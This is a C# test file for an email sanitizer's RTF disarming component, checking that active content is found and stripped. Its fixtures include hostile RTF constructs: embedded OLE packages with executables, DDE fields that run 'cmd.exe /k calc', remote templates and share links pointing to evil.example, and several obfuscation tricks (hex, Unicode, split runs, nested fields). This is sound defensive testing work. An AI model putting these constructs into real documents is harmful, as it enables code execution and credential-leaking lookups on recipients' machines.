using MailSanitizer.Content.Disarming.Rtf;

namespace MailSanitizer.Content.Tests.Disarming.Rtf;

/// <summary>RTF: what acts goes, wherever and however it is written; every other byte stays.</summary>
public sealed class RtfHandlerTests : DisarmerContract
{
    private static readonly byte[] Program = [.. "MZ"u8, .. new byte[300], .. "This program cannot be run in DOS mode"u8];
    private static readonly string Package = RtfSamples.Hex(RtfSamples.Ole("Package", RtfSamples.Package("run.exe", Program)));

    private static string Object(string data, string kind = @"\objemb") =>
        @"{\object" + kind + @"\objw1440\objh720{\*\objclass Package}{\*\objname x}{\*\objdata " + data + @"}{\result {\pict\wmetafile8\picw10\pich10 0100}shown}}";

    private static string Field(string instruction, string result = "result") => @"{\field\fldedit{\*\fldinst " + instruction + @"}{\fldrslt " + result + "}}";

    public override IEnumerable<DisarmSample> Good
    {
        get
        {
            yield return RtfSamples.Document("plain", @"\par text \'82\'a0 \u12354?\~\-\_ {\i x}");
            yield return RtfSamples.Document("words", @" the word \\objdata, \\fldinst DDE and \\template in text");
            yield return RtfSamples.Document("fields", Field(@"{\b PA}GE \\* MERGEFORMAT", "1") + Field(@"HYPERLINK ""https://example.jp/a?b=1"" \\o ""tip""") + Field(@"HYPERLINK \\l ""_Toc1""") + Field(@"TOC \\o ""1-3""", Field("PAGEREF _Toc1 \\\\h {\\*\\datafield 08d0}")));
            yield return RtfSamples.Document("short", "");
            yield return new DisarmSample("cut.rtf", RtfSamples.Bytes(@"{\rt unclosed {\b text"));
            yield return RtfSamples.Document("binary", @"{\pict\wmetafile8\bin12 \object{}}\x }");
            yield return RtfSamples.Document("template", @"{\*\template Normal.dotm}");
            yield return RtfSamples.Document("stores", @"{\*\themedata " + RtfSamples.Hex(RtfSamples.Zip(("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"), ("theme/theme/theme1.xml", "<a/>"))) + @"}{\*\datastore "
                + RtfSamples.Hex(RtfSamples.Ole("Msxml2.SAXXMLReader.6.0", RtfSamples.Compound("Item", "<b:Sources/>"u8.ToArray(), "Properties"))) + "}");
            yield return RtfSamples.Document("attachment", @" see \objattph\'20 here");
            yield return RtfSamples.Document("picture", @"{\shp{\*\shpinst{\sp{\sn pibName}{\sv C:\\pictures\\a.png}}{\sp{\sn fLine}{\sv 0}}}}");
        }
    }

    public override IEnumerable<DisarmSample> Attacks
    {
        get
        {
            yield return RtfSamples.Document("object", Object(Package));
            foreach ((string name, string body, string _, FindingKind _) in Items().Select(row => ((string)row.Data.Item1, row.Data.Item2, row.Data.Item3, Kind(row.Data.Item4)))) yield return RtfSamples.Document(name, body);
        }
    }

    public override IEnumerable<DisarmSample> Hostile
    {
        get
        {
            foreach (string text in (string[])["", "{", "}", "\\", @"{\rtf1", @"{\rtf1}}}}\objdata 00", @"\'", @"{\*", @"{\rtf1\bin", @"{\rtf1\bin99 }", @"{\rtf1{\*\objdata", @"{\rtf1\object\object\object}", @"{\rtf1{\sp{\sv x}}}", @"{\rtf1{\fldinst}}", @"{\rtf1\fldrslt\result}"])
                yield return new DisarmSample("hostile.rtf", RtfSamples.Bytes(text));
            yield return new DisarmSample("deep.rtf", RtfSamples.Bytes(new string('{', 200_000)));
            yield return new DisarmSample("nested.rtf", RtfSamples.Bytes(@"{\rtf1" + string.Concat(Enumerable.Repeat(@"{\*\objdata 00", 3_000))));
            yield return new DisarmSample("fields.rtf", RtfSamples.Bytes(@"{\rtf1" + string.Concat(Enumerable.Repeat(@"{\field{\*\fldinst IF ", 3_000))));
        }
    }

    public override IEnumerable<(DisarmSample Sample, Limits Limits, FindingKind Kind)> OverLimits
    {
        get
        {
            yield return (RtfSamples.Document("depth", @"{{{{{\b x}}}}}"), Limits.Default with { RtfDepth = 4 }, RtfFindings.OverDepth);
            yield return (RtfSamples.Document("places", Object(Package) + Object(Package) + Object(Package)), Limits.Default with { RtfPlaces = 2 }, RtfFindings.OverPlaces);
            yield return (RtfSamples.Document("size", Object(Package)), Limits.Default with { RtfObjectBytes = 100 }, RtfFindings.OverObject);
        }
    }

    private static FindingKind Kind(string id) => FindingKinds.Find(id)!;

    /// <summary>Name, body, the control word or (with a space in front) the field instruction that must go, the finding.</summary>
    public static IEnumerable<TheoryDataRow<string, string, string, string>> Items()
    {
        string link = RtfSamples.Hex(RtfSamples.OleLink("Word.Document.8", @"\\evil.example\share\a.doc"));
        string native = RtfSamples.Hex(RtfSamples.Ole("Package", RtfSamples.Compound("\u0001Ole10Native", RtfSamples.Ole10Native("run.js", Program))));
        string equation = RtfSamples.Hex(RtfSamples.Ole("Equation.3", new byte[200]));
        yield return new("objdata", Object(Package), "objdata", "ole-package");
        yield return new("objdata without an object", @"{\*\objdata " + Package + "}", "objdata", "ole-package");
        yield return new("objdata in the root group", @"\objdata " + Package, "objdata", "ole-package");
        yield return new("objdata with blanks between digits", Object(string.Join("\r\n ", Package.Chunk(3).Select(digits => new string(digits)))), "objdata", "ole-package");
        yield return new("objdata with words between digits", Object(Package[..20] + @"\par\b0 " + Package[20..]), "objdata", "ole-package");
        yield return new("objdata with groups between digits", Object(Package[..20] + @"{\*\ignored 414141}" + Package[20..]), "objdata", "ole-package");
        yield return new("objdata as bytes", Object(@"\bin" + (Package.Length / 2) + " " + RtfSamples.Text(Convert.FromHexString(Package))), "objdata", "ole-package");
        yield return new("objdata inside objdata", Object(@"0105{\*\objdata " + Package + "}00"), "objdata", "ole-package");
        yield return new("objdata in capitals", Object(Package).Replace("objdata", "ObjData", StringComparison.Ordinal), "objdata", "ole-package");
        yield return new("objdata never closed", @"{\object{\*\objdata " + Package, "objdata", "ole-package");
        yield return new("Ole10Native in a compound file", Object(native), "objdata", "ole-package");
        yield return new("equation", Object(equation), "objdata", "equation-object");
        yield return new("objocx", Object(RtfSamples.Hex(RtfSamples.Ole("Forms.CommandButton.1", new byte[40])), @"\objocx"), "objocx", "activex");
        yield return new("objupdate", Object(Package, @"\objemb\objupdate"), "objupdate", "rtf-object-update");
        yield return new("objautlink", Object(link, @"\objautlink"), "objautlink", "linked-object");
        yield return new("objlink", Object(link, @"\objlink\rsltmerge"), "objlink", "linked-object");
        yield return new("objhtml", Object(RtfSamples.Hex(RtfSamples.Ole("htmlfile", new byte[40])), @"\objhtml"), "objhtml", "rtf-html-object");
        yield return new("object without data", @"{\object\objemb{\*\objclass x}{\result y}}", "object", "ole-object");
        yield return new("remote template", @"{\*\template http://evil.example/a.dotm}", "template", "remote-template");
        yield return new("remote template on a share", @"{\*\template \\\\evil.example\\a.dot}", "template", "remote-template");
        yield return new("remote template in Unicode", @"{\*\template \u104?\u116?\u116?\u112?\u58?//x}", "template", "remote-template");
        yield return new("remote template in hex", @"{\template \'68\'74\'74\'70:\'2f\'2fx}", "template", "remote-template");
        foreach (string name in (string[])["DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "IMPORT", "INCLUDE", "LINK", "EMBED", "MACROBUTTON", "DATABASE", "PRINT", "CONTROL", "RD", "ASK", "FILLIN", "NOSUCHFIELD"])
            yield return new($"field {name}", Field(name + @" c:\\\\windows\\\\system32\\\\cmd.exe ""/k calc"""), " " + name, name.StartsWith("DDE", StringComparison.Ordinal) ? "dde" : "active-field");
        yield return new("field split over runs", Field(@"{\b D}{\i D\b0 E\r}AU" + "\r\n" + @"{T}O x"), " DDEAUTO", "dde");
        yield return new("field in hex", Field(@"\'44\'44\'45\'41\'55\'54\'4f x"), " DDEAUTO", "dde");
        yield return new("field in Unicode", Field(@"\u68?\u68?\u69? x"), " DDE", "dde");
        yield return new("field padded", Field(@"          \tab  DDE x"), " DDE", "dde");
        yield return new("field in lower case", Field("ddeauto x"), " DDE", "dde");
        yield return new("field not marked", @"{\field{\fldinst DDE x}{\fldrslt y}}", " DDE", "dde");
        yield return new("field without a field", @"{\*\fldinst DDE x}", " DDE", "dde");
        yield return new("field with an ignored group in its name", Field(@"D{\*\nosuch AB}DE x"), " DABDE", "dde");
        yield return new("field inside a passive field", Field(@"IF 1 = 1 " + Field("DDEAUTO x") + @" ""y"""), " DDEAUTO", "dde");
        yield return new("field named by an inner field", Field(Field("QUOTE 68 68 69") + " x"), " QUOTE", "active-field");
        yield return new("hyperlink to a file", Field(@"HYPERLINK ""file:///c:/windows/system32/calc.exe"""), " HYPERLINK", "unsafe-hyperlink");
        yield return new("hyperlink to a share", Field(@"HYPERLINK ""\\\\\\\\evil.example\\\\a"""), " HYPERLINK", "unsafe-hyperlink");
        yield return new("hyperlink to a handler", Field(@"HYPERLINK ""ms-word:ofe|u|http://x"" \\o ""y"""), " HYPERLINK", "unsafe-hyperlink");
        yield return new("hyperlink from an inner field", Field(@"HYPERLINK """ + Field("MERGEFIELD x") + @""""), " HYPERLINK", "unsafe-hyperlink");
        yield return new("form macro", Field(@"FORMTEXT {\*\formfield{\fftype0{\*\ffentrymcr Evil}{\*\ffexitmcr Evil}}}"), "ffentrymcr", "rtf-form-macro");
        yield return new("file table", @"{\*\filetbl{\file\fid1 \\\\evil.example\\a.doc}}", "filetbl", "external-link");
        yield return new("sub-document", @"\subdocument1 ", "subdocument", "external-link");
        yield return new("next file", @"{\nextfile \\\\evil.example\\a.doc}", "nextfile", "external-link");
        yield return new("font file", @"{\*\fontfile \\\\evil.example\\a.ttf}", "fontfile", "external-link");
        yield return new("mail merge", @"{\*\mailmerge{\mmconnectstr Provider=x}}", "mailmerge", "data-connection");
        yield return new("link base", @"{\info{\hlinkbase file://evil.example/}}", "hlinkbase", "unsafe-hyperlink");
        yield return new("shape link", @"{\sp{\sn pihlShape}{\sv {\*\hl{\hlsrc file:///c:/a.exe}{\hlfr a}}}}", "hlsrc", "unsafe-hyperlink");
        yield return new("linked picture of a shape", @"{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://evil.example/a.png}}}}", "sn", "external-link");
        yield return new("data store with another class", @"{\*\datastore " + RtfSamples.Hex(RtfSamples.Ole("Equation.3", new byte[40])) + "}", "datastore", "rtf-hidden-store");
        yield return new("theme with an external relationship", @"{\*\themedata " + RtfSamples.Hex(RtfSamples.Zip(("_rels/.rels", "<Relationships><Relationship TargetMode='External'/></Relationships>"))) + "}", "themedata", "rtf-hidden-store");
        yield return new("odd bin", @"{\x\bin0000005 abcde}", "bin", "rtf-disagreement");
        yield return new("negative bin", @"{\x\bin-5 abcde}", "bin", "rtf-disagreement");
        yield return new("bin behind the end", @"{\x\bin999999 abcde}", "bin", "rtf-disagreement");
    }

    [Theory]
    [MemberData(nameof(Items))]
    public void Item_is_found_and_gone(string name, string body, string item, string kind)
    {
        DisarmSample sample = RtfSamples.Document(name, body);
        Assert.True(Stands(sample.Bytes, item), "the attack is none");
        Disarmed run = Disarmed.Run(sample);
        Assert.Contains(kind, run.Before.Kinds);
        Assert.False(Stands(run.Bytes, item), RtfSamples.Text(run.Bytes));
        Assert.Empty(run.Left);

        static bool Stands(byte[] bytes, string item) => item[0] == ' ' ? RtfCheck.HasInstruction(bytes, item[1..]) : RtfCheck.Has(bytes, item);
    }

    [Fact]
    public void A_broken_hex_escape_hides_nothing()
    {
        DisarmSample sample = RtfSamples.Document("hex", @"\'\\objdata 00 \'zz");
        Disarmed run = Disarmed.Run(sample);
        Assert.Contains("rtf-disagreement", run.Before.Kinds);
        Assert.Equal(RtfSamples.Text(sample.Bytes).Replace(@"\'", "", StringComparison.Ordinal), RtfSamples.Text(run.Bytes));
    }

    [Fact]
    public void Only_what_acts_is_cut_out()
    {
        DisarmSample sample = RtfSamples.Document("all", Object(Package, @"\objemb\objupdate") + Field("DDE x", "kept") + @"\b" + @"{\*\template //x}text \ul" + @"\objw1 x");
        Disarmed run = Disarmed.Run(sample);
        Assert.Equal(RtfSamples.Text(RtfSamples.Document("all", @"{{ {\pict\wmetafile8\picw10\pich10 0100}shown}}{{kept}}\b text \ul x").Bytes).Replace("{{ {", "{{{", StringComparison.Ordinal), RtfSamples.Text(run.Bytes));
    }

    [Fact]
    public void Files_in_objects_are_walked()
    {
        byte[] native = RtfSamples.Ole("Package", RtfSamples.Compound("\u0001Ole10Native", RtfSamples.Ole10Native("in.exe", Program)));
        Disarmed run = Disarmed.Run(RtfSamples.Document("files", Object(Package) + Object(RtfSamples.Hex(native)) + Object(RtfSamples.Hex(RtfSamples.Ole("AcroExch.Document", RtfSamples.Compound("CONTENTS", "%PDF-1.4 nothing %%EOF"u8.ToArray()))))));
        Assert.Contains(run.Before.Parts, part => part.Name == "run.exe" && part.Size == Program.Length);
        Assert.Contains(run.Before.Parts, part => part.Name == "in.exe" && part.Size == Program.Length);
        Assert.Contains(run.Before.Parts, part => part.Format == "pdf");
        Assert.Single(run.After.Parts);
    }

    [Fact]
    public void A_kind_that_a_rule_allows_stays()
    {
        string data = RtfSamples.Hex(RtfSamples.Ole("Package", RtfSamples.Package("note.txt", "words"u8.ToArray())));
        Disarmed run = Disarmed.Run(RtfSamples.Document("allowed", Object(data, @"\objemb\objupdate")), treat: treatment => treatment with { Allow = ["ole-package"] });
        Assert.True(RtfCheck.Has(run.Bytes, "objdata"));
        Assert.False(RtfCheck.Has(run.Bytes, "objupdate"));
    }

    [Fact]
    public void An_object_whose_file_has_to_go_goes_although_allowed()
    {
        Disarmed run = Disarmed.Run(RtfSamples.Document("allowed", Object(Package)), treat: treatment => treatment with { Allow = ["ole-package"] });
        Assert.False(RtfCheck.Has(run.Bytes, "objdata"));
    }

    [Fact]
    public void Links_are_facts()
    {
        Content.LinkFact link = Assert.Single(Disarmed.Walk(RtfSamples.Document("link", Field(@"HYPERLINK ""https://example.jp/""", "here"))).Links);
        Assert.Equal(("https://example.jp/", "rtf"), (link.Url, link.Source));
    }

    [Fact]
    public void A_document_in_a_scratch_file_reads_the_same()
    {
        string body = string.Concat(Enumerable.Repeat(@"\par some text {\i in groups} \'82\'a0", 10_000)) + Object(Package) + Field("DDE x");
        DisarmSample sample = RtfSamples.Document("large", body);
        Disarmed memory = Disarmed.Run(sample), scratch = Disarmed.Run(new DisarmSample("large.rtf", sample.Bytes));
        using TemporaryBytes file = new(sample.Bytes);
        Content.Formats.Rtf.RtfReader one = new(new MemoryPartBytes(sample.Bytes)), two = new(file);
        while (one.Read())
        {
            Assert.True(two.Read());

            // Only runs of text are cut where the window ends.
            if (one.Kind == Content.Formats.Rtf.RtfTokenKind.Text)
            {
                long length = two.Length;
                while (length < one.Length && two.Read()) length += two.Length;
                Assert.Equal(one.Length, length);
                continue;
            }

            Assert.Equal((one.Kind, one.Offset, one.Length, one.Word, one.Parameter), (two.Kind, two.Offset, two.Length, two.Word, two.Parameter));
        }

        Assert.False(two.Read());
        Assert.Equal(memory.Bytes, scratch.Bytes);
    }

    private sealed class TemporaryBytes(byte[] content) : PartBytes
    {
        public override long Length => content.Length;

        public override int Read(long offset, Span<byte> buffer)
        {
            int count = (int)Math.Max(0, Math.Min(buffer.Length, content.Length - offset));
            content.AsSpan((int)offset, count).CopyTo(buffer);
            return count;
        }
    }
}
